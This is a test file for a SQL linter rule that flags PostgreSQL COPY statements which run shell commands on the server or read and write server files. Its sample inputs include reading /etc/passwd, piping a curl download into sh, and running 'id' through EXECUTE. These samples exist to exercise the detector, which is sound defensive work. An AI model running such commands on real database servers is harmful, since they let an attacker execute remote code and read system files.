import { describe, expect, it } from '@jest/globals';
import rule from '../../src/rules/copy-program-or-server-file.js';
import { lintSql } from '../helpers/lint-sql.js';

const lint = (sql: string) => lintSql(sql, { rules: [rule] });

describe('copy-program-or-server-file', () => {
  it('reports COPY … PROGRAM in both directions as a shell command on the server', async () => {
    for (const sql of ["COPY t TO PROGRAM 'gzip > /tmp/t.gz';", "COPY t FROM PROGRAM 'curl -s https://example.com/t.csv';"]) {
      const [finding] = await lint(sql);
      expect(finding).toMatchObject({ ruleId: 'copy-program-or-server-file', severity: 'error', line: 1 });
      expect(finding!.message).toContain('runs a shell command on the database server');
    }
  });

  it('says whether a server file is read or written', async () => {
    expect((await lint("COPY t FROM '/etc/passwd';"))[0]!.message).toMatch(/reads a file .*pg_read_server_files/);
    expect((await lint("COPY (SELECT 1) TO '/tmp/x';"))[0]!.message).toMatch(/writes a file .*pg_write_server_files/);
  });

  it('leaves STDIN and STDOUT alone', async () => {
    expect(await lint('COPY t FROM STDIN;\nCOPY t TO STDOUT WITH (FORMAT csv);')).toEqual([]);
  });

  it('reports COPY … PROGRAM inside a DO block or a function body, at its line, and in a statement padded past the bulk-data size', async () => {
    const [inDo] = await lint("DO $$\nBEGIN\n  COPY (SELECT 1) TO PROGRAM 'curl -s https://example.com/x | sh';\nEND $$;");
    expect(inDo).toMatchObject({ ruleId: 'copy-program-or-server-file', line: 3, column: 3 });
    expect(inDo!.message).toMatch(/^Inside this DO block: COPY … TO PROGRAM/);
    const [inFunction] = await lint("CREATE FUNCTION export() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN COPY t TO '/tmp/t.csv'; END $f$;");
    expect(inFunction!.message).toMatch(
      /^Inside function "export" \(it runs each time the function is called\): COPY … TO '\/tmp\/t.csv' writes a file/,
    );
    const [executed] = await lint("DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$;");
    expect(executed!.message).toMatch(/^Inside this DO block, through EXECUTE: COPY … FROM PROGRAM 'id'/);
    // Longer than a bulk data statement (no parse tree): a COPY that does not read from the client is never bulk.
    const columns = Array.from({ length: 400 }, (_, index) => `c${index}`).join(', ');
    expect(await lint(`COPY t (${columns}) FROM PROGRAM 'echo FROM STDIN';`)).toHaveLength(1);
    expect(await lint(`COPY t FROM PROGRAM '${'x'.repeat(3000)}';`)).toHaveLength(1);
  });
});
